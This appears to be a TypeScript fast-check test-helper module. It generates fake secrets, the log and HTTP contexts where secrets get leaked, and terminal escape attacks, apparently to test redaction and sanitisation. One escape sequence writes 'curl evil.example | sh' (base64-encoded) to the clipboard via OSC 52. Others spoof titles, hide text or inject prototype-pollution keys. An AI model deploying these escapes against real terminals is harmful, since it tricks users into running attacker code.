/** Hostile inputs, generated at test time: secrets with a known shape, the places they hide, terminal attacks. */
import fc from 'fast-check'

const ALNUM = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789'

/** A random token: letters of both cases and digits (so it is always token-shaped), `len` characters. */
export const token = (len = 24, alphabet = ALNUM): fc.Arbitrary<string> =>
  fc
    .array(fc.integer({max: alphabet.length - 1, min: 0}), {maxLength: len, minLength: len})
    .map((ix) => `Q7x${ix.map((i) => alphabet[i]).join('')}`)

/** A client secret as providers issue them, with the characters encoders disagree on (Azure's contain `~`). */
export const clientSecret: fc.Arbitrary<string> = fc
  .tuple(token(20), fc.constantFrom('~', ' ', '!', "'", '(', ')', '*', '"', '\\', '+', '%', '&', '=', '/', 'é', ''))
  .map(([t, c]) => `${t.slice(0, 10)}${c}${t.slice(10)}`)

const b64url = (o: object) => Buffer.from(JSON.stringify(o)).toString('base64url')
export const jwtWith = (claims: object) => `${b64url({alg: 'RS256', typ: 'JWT'})}.${b64url(claims)}.c2lnbmF0dXJlLXNpZw`
const formEncode = (s: string) => new URLSearchParams([['', s]]).toString().slice(1)

/** Where a secret `s` sits in a paste, each as a real tool or server writes it. */
export const PLACES: [string, (s: string) => string][] = [
  ['callback code', (s) => `https://app.example/cb?code=${s}&state=af0ifjsldkj&error=access_denied`],
  [
    'callback code with - and _',
    (s) => `https://app.example/cb?code=${s.slice(0, 8)}-${s.slice(8, 14)}_${s.slice(14)}&error=server_error`,
  ],
  ['client_secret JSON', (s) => `{"error":"invalid_client","client_secret":${JSON.stringify(s)}}`],
  [
    'client_secret form',
    (s) => `POST /token\nclient_secret=${formEncode(s)}&grant_type=client_credentials\nerror=invalid_client`,
  ],
  ['clientSecret camel', (s) => `{"errorCode":"invalid_client","clientSecret":"${s}"}`],
  ['accessToken', (s) => `{"error":"invalid_token","accessToken":"${s}"}`],
  ['refreshToken=', (s) => `error=invalid_grant refreshToken=${s} idToken=${s}x9`],
  ['sessionToken=', (s) => `level=error error=invalid_token sessionToken=${s}`],
  [
    'bearer header',
    (s) =>
      `GET /api HTTP/1.1\nAuthorization: Bearer ${s}\n\nHTTP/1.1 401 Unauthorized\nWWW-Authenticate: Bearer error="invalid_token"`,
  ],
  [
    'token in error_description',
    (s) => `WWW-Authenticate: Bearer error="invalid_token", error_description="The access token ${s} expired"`,
  ],
  ['code has expired', (s) => `{"error":"invalid_grant","error_description":"The code ${s} has expired"}`],
  ['cookie', (s) => `{"error":"access_denied","error_description":"Cookie: sid=${s}; theme=dark"}`],
  [
    'set-cookie',
    (s) => `HTTP/1.1 403 Forbidden\nSet-Cookie: session=${s}; Path=/; HttpOnly\n\n{"error":"access_denied"}`,
  ],
  ['pwd', (s) => `error=invalid_grant pwd: ${s}`],
  ['password JSON escaped', (s) => `{"error":"invalid_grant","password":${JSON.stringify(`${s}"\\`)}}`],
  ['x-access-token', (s) => `HTTP/1.1 401 Unauthorized\nx-access-token: ${s}\n\n{"error":"invalid_token"}`],
  ['SAMLResponse', (s) => `error=access_denied&SAMLResponse=${s}&RelayState=x`],
  [
    'Basic in prose',
    (s) => `error=invalid_client: the app sent Basic ${Buffer.from(`my-app:${s}`).toString('base64')}`,
  ],
  ['curl -u', (s) => `$ curl -u my-app:${s} https://login.example/token\n{"error":"invalid_client"}`],
  ['URL userinfo', (s) => `error=invalid_client at https://my-app:${s}@login.example/token`],
  ['secret quoted in prose', (s) => `error=invalid_client: the client secret "${s}" is wrong`],
  [
    'JWT claim',
    (s) => `{"error":"invalid_token","token":"${jwtWith({client_secret: s, iss: 'https://id.example', password: s})}"}`,
  ],
  ['github_pat_', (s) => `{"message":"Bad credentials","token":"x","note":"github_pat_11A${s}_${s}"}`],
  ['ghp_', (s) => `error=bad_verification_code used ghp_${s}${s}`],
  ['glpat-', (s) => `{"error":"invalid_token","hint":"glpat-${s}"}`],
  ['ya29.', (s) => `{"error":"invalid_grant","error_description":"ya29.a0${s}-${s}"}`],
  ['sk-proj-', (s) => `{"error":{"code":"invalid_api_key","message":"Incorrect API key provided: sk-proj-${s}${s}"}}`],
  ['xoxb-', (s) => `{"ok":false,"error":"invalid_auth","token":"xoxb-12345-${s}"}`],
  [
    'AWS keys',
    (s) =>
      `error=AccessDenied aws_access_key_id=AKIA${s
        .slice(3, 19)
        .toUpperCase()
        .replace(/[^A-Z0-9]/g, 'Q')} aws_secret_access_key = ${s}${s.slice(0, 16)}`,
  ],
  [
    'PEM private key',
    (s) => `error=invalid_client\n-----BEGIN PRIVATE KEY-----\nMIIE${s}\n${s}AB\n-----END PRIVATE KEY-----`,
  ],
  ['escaped client_secret', (s) => `log: "{\\"error\\":\\"invalid_client\\",\\"client_secret\\":\\"${s}\\"}"`],
]

/** Terminal attacks: OSC 52 clipboard write, OSC 0 title, screen clear, cursor moves, C1 CSI, hidden text. */
export const ESCAPES = [
  '\u001B]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007',
  '\u001B]0;pwned\u0007',
  '\u001B[2J\u001B[H',
  '\u001B[8mhidden\u001B[0m',
  '\u009B31m',
  '\u009D0;title\u009C',
  '\u001BP+q\u001B\\',
  '\r\u001B[1A\u001B[2K',
  '\u202Eevil',
  '\u0007\u0008\u007F',
]

/** Random text mixed with the characters parsers and terminals care about. */
export const hostileText: fc.Arbitrary<string> = fc
  .array(
    fc.oneof(
      fc.string({maxLength: 40}),
      fc.constantFrom(...ESCAPES),
      fc.constantFrom(
        '{"error":"',
        '"}',
        'error=',
        '&',
        '?',
        '#',
        'eyJ',
        '.',
        '\\"',
        '\t',
        '\n',
        'Bearer ',
        'WWW-Authenticate: ',
        'code=',
        ':',
        '"',
        "'",
        '\uD800',
        'constructor',
        '__proto__',
        'toString',
      ),
    ),
    {maxLength: 30},
  )
  .map((parts) => parts.join(''))
